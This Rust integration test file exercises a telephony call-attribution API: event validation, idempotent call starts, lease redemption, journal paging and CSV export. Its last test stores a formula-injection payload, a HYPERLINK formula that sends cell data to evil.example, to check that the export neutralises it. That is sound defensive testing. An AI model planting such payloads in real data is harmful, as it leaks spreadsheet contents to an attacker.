//! `/v1/calls` and redeem as telephony and sites use them: precise errors for bad events,
//! idempotency, redeem once, and the journal's pages.

mod common;

use std::time::Duration;

use common::*;
use serde_json::{json, Value};

async fn start(app: &TestApp, body: Value) -> Reply {
    app.call(
        "POST",
        "/v1/calls",
        Some(TELEPHONY),
        Some(&body.to_string()),
    )
    .await
}

async fn lease(app: &TestApp, extra: Value) -> Value {
    let mut body = json!({"pool": "ch", "session": "s", "listing": "l1", "target": "+41790000000"});
    body.as_object_mut()
        .unwrap()
        .extend(extra.as_object().unwrap().clone());
    let r = app
        .call("POST", "/v1/leases", Some(SITE), Some(&body.to_string()))
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    r.json
}

#[tokio::test]
async fn bad_call_events_get_precise_errors() {
    let app = TestApp::new().await;
    start(
        &app,
        json!({"call_id": "c1", "event": "ring", "called": "+41900100000"}),
    )
    .await
    .assert_problem(422, "\"ring\" is not an event");
    start(
        &app,
        json!({"call_id": "c1", "event": "start", "called": "0900100000"}),
    )
    .await
    .assert_problem(422, "called: ");
    start(&app, json!({"event": "start", "called": "+41900100000"}))
        .await
        .assert_problem(422, "missing field `call_id`");
    start(
        &app,
        json!({"call_id": "c1", "event": "start", "called": "+41900100000", "duration_secs": 5}),
    )
    .await
    .assert_problem(422, "only an \"end\" event has a duration");
    start(&app, json!({"call_id": "c1", "event": "start"}))
        .await
        .assert_problem(422, "called: required");
    start(
        &app,
        json!({"call_id": "c1", "event": "start", "called": "+41900100000", "code": "12"}),
    )
    .await
    .assert_problem(422, "code: ");
    start(
        &app,
        json!({"call_id": "c1", "event": "start", "called": "+41900100000", "at": "yesterday"}),
    )
    .await
    .assert_problem(422, "RFC 3339");
    start(&app, json!({"call_id": "c1", "event": "end"}))
        .await
        .assert_problem(422, "duration_secs: required");
    start(
        &app,
        json!({"call_id": "nope", "event": "end", "duration_secs": 3}),
    )
    .await
    .assert_problem(404, "no call with this call_id");
    app.call(
        "POST",
        "/v1/calls",
        Some(SITE),
        Some(r#"{"call_id":"c","event":"start","called":"+41900100000"}"#),
    )
    .await
    .assert_problem(403, "needs role \"telephony\"");
}

#[tokio::test]
async fn starts_are_idempotent_on_call_id_and_ends_are_checked() {
    let app = TestApp::new().await;
    let l = lease(&app, json!({})).await;
    let body = json!({"call_id": "sip-1", "event": "start", "called": l["number"], "caller": "+41791111111"});
    let first = start(&app, body.clone()).await;
    assert_eq!(first.json["reason"], "active");
    assert_eq!(first.json["lease_id"], l["lease_id"]);
    // Retried after the lease is gone: same answer, no double count.
    app.call(
        "DELETE",
        &format!("/v1/leases/{}", l["lease_id"].as_str().unwrap()),
        Some(SITE),
        None,
    )
    .await;
    app.advance(Duration::from_secs(3600)).await;
    let again = start(&app, body).await;
    assert_eq!(again.json, first.json);
    let shown = app
        .call(
            "GET",
            &format!("/v1/leases/{}", l["lease_id"].as_str().unwrap()),
            None,
            None,
        )
        .await;
    assert_eq!(shown.json["calls"], 1);
    start(
        &app,
        json!({"call_id": "sip-1", "event": "start", "called": "+41900100049"}),
    )
    .await
    .assert_problem(409, "already started with other numbers");

    let end = json!({"call_id": "sip-1", "event": "end", "duration_secs": 42});
    assert_eq!(start(&app, end.clone()).await.status, 200);
    assert_eq!(
        start(&app, end).await.status,
        200,
        "a retried end is answered again"
    );
    start(
        &app,
        json!({"call_id": "sip-1", "event": "end", "duration_secs": 43}),
    )
    .await
    .assert_problem(409, "already ended after 42 s");
    start(&app, json!({"call_id": "sip-2", "event": "start", "called": "+41900100049", "at": "2026-01-01T00:30:00Z"})).await;
    start(&app, json!({"call_id": "sip-2", "event": "end", "duration_secs": 1, "at": "2026-01-01T00:20:00Z"}))
        .await
        .assert_problem(409, "before its start");
}

#[tokio::test]
async fn a_paid_lease_redeems_once_and_an_unpaid_one_not_at_all() {
    let app = TestApp::new().await;
    let l = lease(&app, json!({"calls_required": 2})).await;
    let id = l["lease_id"].as_str().unwrap();
    let redeem = format!("/v1/leases/{id}/redeem");
    app.call("POST", &redeem, Some(SITE), None)
        .await
        .assert_problem(402, "0 of 2 calls");
    for i in 0..2 {
        start(
            &app,
            json!({"call_id": format!("c{i}"), "event": "start", "called": l["number"]}),
        )
        .await;
    }
    app.call("POST", &redeem, Some(OTHER_SITE), None)
        .await
        .assert_problem(404, "no lease");
    let ok = app.call("POST", &redeem, Some(SITE), None).await;
    assert_eq!(ok.status, 200, "{}", ok.text);
    assert_eq!(ok.json["paid"], true);
    assert_eq!(ok.json["calls"], 2);
    assert!(ok.json["redeemed_at"].is_string());
    app.call("POST", &redeem, Some(SITE), None)
        .await
        .assert_problem(409, "already redeemed");
}

#[tokio::test]
async fn the_journal_pages_newest_first_and_exports_csv() {
    let app = TestApp::new().await;
    for i in 0..5 {
        start(&app, json!({"call_id": format!("c{i}"), "event": "start", "called": "+41900100000", "caller": "+41790000000"})).await;
        app.advance(Duration::from_secs(1)).await;
    }
    start(
        &app,
        json!({"call_id": "other", "event": "start", "called": "+33899100000"}),
    )
    .await;
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = "/v1/calls?pool=ch&limit=2".to_owned();
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let r = app.call("GET", &path, Some(ADMIN), None).await;
        assert_eq!(r.status, 200, "{}", r.text);
        for c in r.json["calls"].as_array().unwrap() {
            seen.push(c["call_id"].as_str().unwrap().to_owned());
            assert_eq!(c["pool"], "ch");
            assert_eq!(c["reason"], "not_leased");
        }
        match r.json["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
    }
    assert_eq!(seen, ["c4", "c3", "c2", "c1", "c0"]);

    let since = app
        .call(
            "GET",
            "/v1/calls?since=2026-01-01T00:00:03Z&until=2026-01-01T00:00:05Z",
            Some(ADMIN),
            None,
        )
        .await;
    let ids: Vec<_> = since.json["calls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["call_id"].clone())
        .collect();
    assert_eq!(ids, [json!("c4"), json!("c3")]);

    let csv = app
        .call("GET", "/v1/calls?pool=ch&format=csv", Some(ADMIN), None)
        .await;
    assert_eq!(csv.headers["content-type"], "text/csv; charset=utf-8");
    let lines: Vec<_> = csv.text.lines().collect();
    assert!(lines[0].starts_with("call_id,pool,called,caller"));
    assert_eq!(lines.len(), 6);
    assert!(lines[1]
        .starts_with("c4,ch,+41900100000,+41790000000,,2026-01-01T00:00:04.000Z,not_leased,false"));

    app.call("GET", "/v1/calls?cursor=zz", Some(ADMIN), None)
        .await
        .assert_problem(400, "cursor");
    app.call("GET", "/v1/calls?pool=nope", Some(ADMIN), None)
        .await
        .assert_problem(404, "no pool");
    app.call("GET", "/v1/calls?limit=0", Some(ADMIN), None)
        .await
        .assert_problem(422, "limit");
    app.call("GET", "/v1/calls", Some(TELEPHONY), None)
        .await
        .assert_problem(403, "admin");
}

#[tokio::test]
async fn a_lookup_answers_like_a_start_but_records_nothing() {
    let app = TestApp::new().await;
    let l = lease(&app, json!({})).await;
    let number = l["number"].as_str().unwrap();
    let q = format!(
        "/v1/attribution?called={}&caller=%2B41791111111",
        number.replace('+', "%2B")
    );
    let r = app.call("GET", &q, Some(TELEPHONY), None).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json["reason"], "active");
    assert_eq!(r.json["lease_id"], l["lease_id"]);
    assert_eq!(r.json["target"], "+41790000000");
    let journal = app.call("GET", "/v1/calls", Some(ADMIN), None).await;
    assert_eq!(journal.json["calls"].as_array().unwrap().len(), 0);
    let shown = app
        .call(
            "GET",
            &format!("/v1/leases/{}", l["lease_id"].as_str().unwrap()),
            None,
            None,
        )
        .await;
    assert_eq!(shown.json["calls"], 0);
    app.call("GET", "/v1/attribution?called=12", Some(TELEPHONY), None)
        .await
        .assert_problem(422, "called: ");
    app.call("GET", "/v1/attribution", Some(TELEPHONY), None)
        .await
        .assert_problem(400, "called");
}

#[tokio::test]
async fn the_csv_export_neutralises_formulas_but_keeps_numbers() {
    let app = TestApp::new().await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
    let l = lease(&app, json!({"listing": evil})).await;
    start(
        &app,
        json!({"call_id": "@SUM(1+1)", "event": "start", "called": l["number"], "caller": "+33612345678"}),
    )
    .await;
    let csv = app
        .call("GET", "/v1/calls?format=csv", Some(ADMIN), None)
        .await
        .text;
    let row = csv.lines().nth(1).unwrap();
    assert!(
        row.starts_with(&format!(
            "'@SUM(1+1),ch,{},+33612345678,",
            l["number"].as_str().unwrap()
        )),
        "{row}"
    );
    assert!(
        row.contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")",+41790000000,"#),
        "{row}"
    );
    // JSON is not a spreadsheet: it carries the values as they were sent.
    let json = app.call("GET", "/v1/calls", Some(ADMIN), None).await.json;
    assert_eq!(json["calls"][0]["listing"], evil);
}
